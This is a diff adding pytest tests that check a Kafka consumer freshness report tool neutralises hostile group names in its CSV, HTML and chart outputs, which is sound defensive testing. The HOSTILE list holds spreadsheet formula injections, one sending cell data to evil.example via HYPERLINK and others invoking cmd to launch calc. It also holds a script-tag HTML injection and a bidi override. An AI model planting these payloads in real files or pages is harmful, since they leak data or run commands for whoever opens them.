@@ -287,3 +287,73 @@ def test_without_matplotlib_the_report_has_its_tables_and_says_so_first(
     assert "orders-app" in page
     assert not (tmp_path / "o" / "charts").exists()
     assert not pd.read_csv(tmp_path / "o" / "consumers.csv").empty
+
+
+#: Group ids Kafka accepts that would act on whoever opens the outputs: spreadsheet formulas
+#: (OWASP's list), markup, mathtext (which used to fail the whole report while drawing the
+#: charts), a newline (which `orders-.*` must still judge) and a bidi override.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR",
+           "orders-</td><script>alert(1)</script>", "orders-$\\nosuch{x}$",
+           "orders-\nnewline", "orders-\u202eevil"]
+
+
+def test_hostile_group_names_stay_data_in_every_output(spark: Any, tmp_path: Path) -> None:
+    """Every name is judged by the objective its regex selects, exact in the Parquet, inert in
+    the CSV (a leading =, +, -, @, tab or CR quoted with '), escaped in the page, and drawn
+    as written in the charts."""
+    from freshness_tracker.spark.report_html import spreadsheet_safe
+    from tests.spark.helpers import row, write
+
+    for i in range(10):
+        t = T0 + i * M
+        write(str(tmp_path / "h"), "@east", t,
+              [row("@east", name, "orders", 0, t, 600 * S if i < 3 else 30 * S)
+               for name in [*HOSTILE, "x\r=1+1"]])
+    (tmp_path / "objectives.conf").write_text(OBJECTIVES)
+    root = logging.getLogger()
+    handlers, level = root.handlers[:], root.level
+    try:
+        code = main(["spark", "report", "--history", str(tmp_path / "h"),
+                     "--from", "2026-01-01T00:00:00Z", "--to", "2026-01-01T00:10Z",
+                     "--objectives", str(tmp_path / "objectives.conf"), "--out",
+                     str(tmp_path / "o"), "--worst", str(len(HOSTILE) + 1), "--log-level",
+                     "WARNING"])
+    finally:
+        root.handlers[:] = handlers
+        root.setLevel(level)
+    assert code == 0
+    out = tmp_path / "o"
+    exact = pd.read_parquet(out / "consumers.parquet")
+    names = [*HOSTILE, "x\r=1+1"]  # a carriage return inside: quoted, one cell, one row
+    assert sorted(exact["consumer"]) == sorted(names) and set(exact["cluster"]) == {"@east"}
+    judged = dict(zip(exact["consumer"], exact["objective_ms"], strict=True))
+    assert {name for name, ms in judged.items() if pd.notna(ms)} == {
+        n for n in HOSTILE if n.startswith("orders-")}  # the newline one too: `.` matches it
+    for table in ("consumers", "topics", "partitions", "episodes"):
+        csv = pd.read_csv(out / f"{table}.csv", keep_default_na=False)
+        assert set(csv["cluster"]) == {"'@east"}
+        listed = names if table != "episodes" else [n for n in names if pd.notna(judged[n])]
+        assert sorted(set(csv["consumer"])) == sorted(spreadsheet_safe(n) for n in listed)
+        assert len(csv) == len(listed) * (2 if table == "episodes" else 1), table
+        for column in csv.columns:
+            cells = [c for c in csv[column] if isinstance(c, str)]
+            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), column
+    page = (out / "report.html").read_text(encoding="utf-8")
+    assert "<script>" not in page and "</td><script" not in page
+    assert "orders-&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "orders-\\nnewline" in page and "orders-\\u202eevil" in page
+    assert "\u202e" not in page
+    for chart in ("freshness", "timeline"):
+        assert (out / "charts" / f"{chart}.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+@pytest.mark.parametrize(("cell", "shown"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff20A1", "'\uff20A1"),
+    ("orders-app", "orders-app"), ("a=b", "a=b"), ("", ""), (None, None), (-1, -1),
+])  # fmt: skip
+def test_spreadsheet_safe_quotes_only_what_starts_a_formula(cell: Any, shown: Any) -> None:
+    from freshness_tracker.spark.report_html import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == shown
